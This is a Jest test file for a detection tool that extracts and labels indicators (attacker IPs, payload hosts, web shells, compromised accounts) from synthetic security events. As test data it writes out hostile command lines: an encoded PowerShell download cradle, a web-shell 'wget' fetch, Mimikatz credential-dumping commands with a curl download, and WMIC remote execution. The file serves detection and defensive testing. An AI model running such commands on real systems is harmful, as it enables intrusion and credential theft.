import { loadAttackCatalog } from '../attack';
import type { RuleRef } from '../model';
import { makeSignal } from '../correlate/signal';
import { event, lookupOf } from '../correlate/testing/events';
import { buildIndicators, indicatorKey } from './index';
import { isExternalIp, isInternalIp, parseIp } from './ip';

const catalog = loadAttackCatalog();

function rule(level: string, tags: string[]): RuleRef {
  return { id: `r-${level}-${tags.join('-')}`, title: `Test rule ${level}`, level, tags };
}

describe('IP classification', () => {
  it('tells internal from external addresses, including IPv4-mapped IPv6 and CGNAT', () => {
    expect(isExternalIp('185.220.101.42')).toBe(true);
    expect(isInternalIp('10.0.1.15')).toBe(true);
    expect(parseIp('::ffff:10.2.7.31')).toEqual({ value: '10.2.7.31', version: 4, scope: 'internal' });
    expect(isInternalIp('100.64.3.4')).toBe(true);
    expect(parseIp('fe80::1')?.scope).toBe('link_local');
    expect(parseIp('10.0.0')).toBeUndefined();
  });

  it('reads the documentation networks of examples and test data as internet addresses, other reserved space as special', () => {
    for (const ip of ['192.0.2.10', '198.51.100.4', '203.0.113.77', '2001:db8::5']) expect(isExternalIp(ip)).toBe(true);
    expect(parseIp('240.0.0.1')?.scope).toBe('special');
    expect(parseIp('224.0.0.251')?.scope).toBe('special');
  });
});

describe('indicator roles', () => {
  it('normalises one account across DOMAIN\\user, user@domain and case', () => {
    expect(indicatorKey('user', 'CORP\\TLee')).toBe('tlee');
    expect(indicatorKey('user', 'tlee@corp.example')).toBe('tlee');
  });

  it('names the source of a discovery rule hit as attacker, its process as recon tool and the acting account as compromised', () => {
    const e = event(0, '2026-01-01T00:00:00Z', { action: 'process_create', entities: { user: 'CORP\\admin', host: 'srv-1', process: 'C:\\Windows\\System32\\whoami.exe', srcIp: '91.92.240.17' } });
    const s = makeSignal('detection', 'd', rule('medium', ['attack.discovery', 'attack.t1033']), [0], lookupOf([e]), catalog);
    const got = buildIndicators([s], lookupOf([e]), catalog).map((i) => `${i.type}:${i.value}:${i.role}`);
    expect(got).toEqual(expect.arrayContaining(['ip:91.92.240.17:attacker', 'process:whoami.exe:recon_tool', 'user:CORP\\admin:compromised_account', 'host:srv-1:compromised_host']));
  });

  it('names the machine a flagged remote-execution command line acts on as the target, not the machine it ran on', () => {
    const e = event(0, '2026-01-01T00:00:00Z', { action: 'process_create', entities: { user: 'CORP\\admin', host: 'WS-07', process: 'C:\\Windows\\System32\\wbem\\WMIC.exe', commandLine: 'wmic /node:FS-02 process call create "cmd /c whoami"' } });
    const low = { ...e, index: 1, entities: { ...e.entities, commandLine: 'wmic /node:HR-09 process list' } };
    const s = makeSignal('detection', 'd', rule('medium', ['attack.execution', 'attack.t1047']), [0], lookupOf([e]), catalog);
    const weak = makeSignal('detection', 'w', rule('low', ['attack.discovery', 'attack.t1057']), [1], lookupOf([low]), catalog);
    const got = buildIndicators([s, weak], lookupOf([e, low]), catalog).map((i) => `${i.type}:${i.value}:${i.role}`);
    expect(got).toContain('host:FS-02:target');
    expect(got).not.toContain('host:WS-07:target');
    expect(got.some((g) => g.startsWith('host:HR-09'))).toBe(false);
  });

  it('never reports public resolvers, loopback or link-local addresses as attacker', () => {
    const events = [
      event(0, '2026-01-01T00:00:00Z', { entities: { srcIp: '8.8.8.8', dstIp: '10.0.0.5' } }),
      event(1, '2026-01-01T00:00:01Z', { entities: { srcIp: '127.0.0.1', dstIp: '10.0.0.5' } }),
      event(2, '2026-01-01T00:00:02Z', { entities: { srcIp: '169.254.10.1', dstIp: '10.0.0.5' } }),
    ];
    const s = makeSignal('detection', 'd', rule('high', ['attack.initial-access', 'attack.t1190']), [0, 1, 2], lookupOf(events), catalog);
    const values = buildIndicators([s], lookupOf(events), catalog).map((i) => i.value);
    expect(values).not.toEqual(expect.arrayContaining(['8.8.8.8']));
    expect(values).not.toContain('127.0.0.1');
    expect(values).not.toContain('169.254.10.1');
    expect(values).toContain('10.0.0.5');
  });

  it('calls an e-mail address a phishing sender only on mail evidence, never the account of a sign-in', () => {
    const signIn = event(0, '2026-01-01T00:00:00Z', { action: 'logon', format: 'okta', logsource: { product: 'okta', service: 'okta' }, entities: { user: 'rsingh@corp.example', email: 'rsingh@corp.example', srcIp: '146.70.117.201' } });
    const mail = event(1, '2026-01-01T00:00:05Z', { action: 'email_received', format: 'generic', logsource: { category: 'email' }, entities: { email: 'billing@invoices-secure.example', targetUser: 'rsingh@corp.example' } });
    const tags = ['attack.initial-access', 'attack.t1566.001'];
    const roles = (e: typeof signIn) => buildIndicators([makeSignal('detection', 'd', rule('high', tags), [e.index], lookupOf([signIn, mail]), catalog)], lookupOf([signIn, mail]), catalog).map((i) => `${i.type}:${i.value}:${i.role}`);
    expect(roles(signIn)).not.toContain('email:rsingh@corp.example:phishing_sender');
    expect(roles(mail)).toContain('email:billing@invoices-secure.example:phishing_sender');
  });

  it('cites the events behind each indicator and orders attackers before targets', () => {
    const events = [event(0, '2026-01-01T00:00:00Z', { entities: { srcIp: '45.9.148.108', dstIp: '10.0.0.5' } })];
    const s = makeSignal('detection', 'd', rule('high', ['attack.initial-access', 'attack.t1190']), [0], lookupOf(events), catalog);
    const list = buildIndicators([s], lookupOf(events), catalog);
    expect(list[0]).toMatchObject({ value: '45.9.148.108', role: 'attacker', event_indices: [0] });
    expect(list[1]).toMatchObject({ value: '10.0.0.5', role: 'target', event_indices: [0] });
  });

  it('lets the strongest role win when evidence gives a value several', () => {
    const events = [event(0, '2026-01-01T00:00:00Z', { entities: { user: 'backup' } })];
    const lookup = lookupOf(events);
    const targeted = makeSignal('behaviour', 'a', rule('medium', []), [0], lookup, catalog, [{ type: 'user', value: 'backup', role: 'targeted_account', eventIndices: [0] }]);
    const compromised = makeSignal('behaviour', 'b', rule('high', []), [0], lookup, catalog, [{ type: 'user', value: 'BACKUP', role: 'compromised_account', eventIndices: [0] }]);
    expect(buildIndicators([targeted, compromised], lookup, catalog)).toEqual([expect.objectContaining({ type: 'user', role: 'compromised_account' })]);
  });

  it('pulls the infrastructure out of a flagged command line, including an encoded payload', () => {
    const enc = Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://update-check.top/a.ps1')", 'utf16le').toString('base64');
    const e = event(0, '2026-01-01T00:00:00Z', { action: 'process_create', entities: { user: 'bob', host: 'ws-1', process: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', commandLine: `powershell -enc ${enc}` } });
    const s = makeSignal('detection', 'd', rule('high', ['attack.execution', 'attack.t1059.001']), [0], lookupOf([e]), catalog);
    const got = buildIndicators([s], lookupOf([e]), catalog).map((i) => `${i.type}:${i.value}:${i.role}`);
    expect(got).toEqual(expect.arrayContaining(['url:http://update-check.top/a.ps1:payload_url', 'domain:update-check.top:payload_host', 'process:powershell.exe:suspicious_process']));
  });
});

describe('indicators of attacks on our own web server', () => {
  const web = (i: number, url: string, status: number): ReturnType<typeof event> => event(i, `2026-07-21T10:1${i}:00Z`, {
    format: 'web_access', action: 'http_request', outcome: status >= 400 ? 'failure' : 'success', logsource: { category: 'webserver' },
    fields: { 'sc-status': status }, entities: { srcIp: '45.148.10.81', url },
  });

  it('calls the web server that answered its web shell compromised, and one that refused a probe only targeted', () => {
    const at = (i: number, url: string, status: number) => ({ ...web(i, url, status), entities: { srcIp: '203.0.113.77', dstIp: i === 0 ? '10.1.2.30' : '10.1.2.31', url } });
    const events = [at(0, '/aspnet_client/shell.aspx?cmd=whoami', 200), at(1, '/.git/config', 404)];
    const lookup = lookupOf(events);
    const shell = makeSignal('detection', 's', rule('high', ['attack.persistence', 'attack.t1505.003']), [0], lookup, catalog);
    const probe = makeSignal('detection', 'p', rule('medium', ['attack.initial-access', 'attack.t1190']), [1], lookup, catalog);
    const roles = Object.fromEntries(buildIndicators([shell, probe], lookup, catalog).map((i) => [i.value, i.role]));
    expect(roles['10.1.2.30']).toBe('compromised_host');
    expect(roles['10.1.2.31']).not.toBe('compromised_host');
    expect(roles['203.0.113.77']).toBe('attacker');
  });

  it('reports the web shell page once, the staging server named in a command, and no refused probe', () => {
    const events = [web(0, '/uploads/a.php?cmd=id', 200), web(1, '/uploads/a.php?cmd=wget%20http://185.234.216.40/l.sh', 200), web(2, '/.env', 404)];
    const lookup = lookupOf(events);
    const shell = makeSignal('detection', 's', rule('high', ['attack.persistence', 'attack.t1505.003']), [0, 1], lookup, catalog);
    const probe = makeSignal('detection', 'p', rule('medium', ['attack.initial-access', 'attack.t1190']), [2], lookup, catalog);
    const roles = Object.fromEntries(buildIndicators([shell, probe], lookup, catalog).map((i) => [i.value, i.role]));
    expect(roles['/uploads/a.php']).toBe('webshell');
    expect(roles['185.234.216.40']).toBe('payload_host');
    expect(roles['http://185.234.216.40/l.sh']).toBe('payload_url');
    expect(roles['45.148.10.81']).toBe('attacker');
    expect(Object.keys(roles).filter((v) => v.startsWith('/uploads/a.php?') || v === '/.env')).toEqual([]);
  });
});

describe('indicators from Windows and endpoint events', () => {
  it('calls a service someone installed their tool or foothold, never a targeted service, and never names LocalSystem', () => {
    const install = event(0, '2026-09-03T22:41:08Z', { format: 'windows', action: 'service_install', fields: { EventID: 7045 }, entities: { user: 'LocalSystem', service: 'PSEXESVC', host: 'FS-02' } });
    const lookup = lookupOf([install]);
    const s = makeSignal('detection', 's', rule('medium', ['attack.execution', 'attack.t1569.002']), [0], lookup, catalog);
    const found = buildIndicators([s], lookup, catalog);
    expect(found.find((i) => i.value === 'PSEXESVC')?.role).toBe('attack_tool');
    expect(found.find((i) => i.value === 'LocalSystem')).toBeUndefined();
  });

  it('gives the hash of a dropped executable to the file as malware, not to the process that wrote it', () => {
    const write = event(0, '2026-04-22T16:45:25Z', { action: 'file_create', entities: { process: 'powershell.exe', file: 'C:\\Users\\Public\\upd.exe', hashes: ['9f2b5c0e4d5a8e1f3b6c7d8e9f0a1b2c3d4e5f60718293a4b5c6d7e8f9a0b1c2'], host: 'WS-117' } });
    const lookup = lookupOf([write]);
    const s = makeSignal('detection', 's', rule('high', ['attack.command-and-control', 'attack.t1105']), [0], lookup, catalog);
    expect(buildIndicators([s], lookup, catalog).find((i) => i.type === 'sha256')?.role).toBe('malware');
  });

  it('never makes the organisation\'s own AD domain named in a command line a payload host, but keeps a foreign one', () => {
    const run = (commandLine: string) => {
      const e = event(0, '2026-08-14T22:03:40Z', { action: 'process_create', logsource: { product: 'windows', category: 'process_creation' }, entities: { process: 'C:\\Users\\Public\\m.exe', commandLine, user: 'CORP\\svc_backup', host: 'WS-117.corp.example' } });
      const lookup = lookupOf([e]);
      const s = makeSignal('detection', 's', rule('high', ['attack.credential-access', 'attack.t1003.006']), [0], lookup, catalog);
      return buildIndicators([s], lookup, catalog).filter((i) => i.type === 'domain').map((i) => `${i.value}:${i.role}`);
    };
    expect(run('m.exe "lsadump::dcsync /domain:corp.example /user:krbtgt" exit')).toEqual([]);
    expect(run('m.exe sekurlsa::logonpasswords & curl -o x http://files.evil-drop.net/t')).toEqual(expect.arrayContaining([expect.stringMatching(/^files\.evil-drop\.net:|^evil-drop\.net:/)]));
  });

  it('never makes an OS binary the attacker\'s foothold', () => {
    const net = event(0, '2026-02-09T23:14:00Z', { action: 'process_create', entities: { process: 'C:\\Windows\\System32\\net.exe', user: 'backup', host: 'RDS-01' } });
    const lookup = lookupOf([net]);
    const s = makeSignal('detection', 's', rule('high', ['attack.persistence', 'attack.t1136.001']), [0], lookup, catalog);
    expect(buildIndicators([s], lookup, catalog).find((i) => i.value === 'net.exe')?.role).toBe('attack_tool');
  });

  it('never lists the OS host that ran work for a remote caller (WMI provider host) as a tool, but a copy in a user folder is', () => {
    const write = (process: string) => event(0, '2020-12-10T11:18:54Z', { action: 'registry_set', entities: { process, registryKey: 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\upd', host: 'SRV-DST' } });
    const found = (process: string) => {
      const lookup = lookupOf([write(process)]);
      const s = makeSignal('detection', 's', rule('high', ['attack.lateral-movement', 'attack.t1021', 'attack.t1047']), [0], lookup, catalog);
      return buildIndicators([s], lookup, catalog).filter((i) => i.type === 'process').map((i) => i.value);
    };
    expect(found('C:\\Windows\\System32\\wbem\\WmiPrvSE.exe')).toEqual([]);
    expect(found('C:\\Users\\Public\\wmiprvse.exe')).toEqual(['wmiprvse.exe']);
  });
});

describe('footholds', () => {
  it('reports the program a new scheduled task runs, and an OS binary name in a user folder as malware', () => {
    const task = event(0, '2026-03-03T03:12:00Z', { format: 'windows', action: 'task_create', fields: { EventID: 4698, TaskContent: '<Exec><Command>C:\\Users\\Public\\svchost.exe</Command></Exec>' }, entities: { user: 'helpdesk', host: 'JUMP-01', task: '\\UpdateCheck' } });
    const lookup = lookupOf([task]);
    const s = makeSignal('behaviour', 's', rule('medium', ['attack.persistence', 'attack.t1053.005']), [0], lookup, catalog, [{ type: 'scheduled_task', value: '\\UpdateCheck', role: 'persistence', eventIndices: [0] }]);
    const found = buildIndicators([s], lookup, catalog);
    expect(found.find((i) => i.value === 'C:\\Users\\Public\\svchost.exe')?.role).toBe('malware');
    expect(found.find((i) => i.value === '\\UpdateCheck')?.role).toBe('persistence');
  });
});

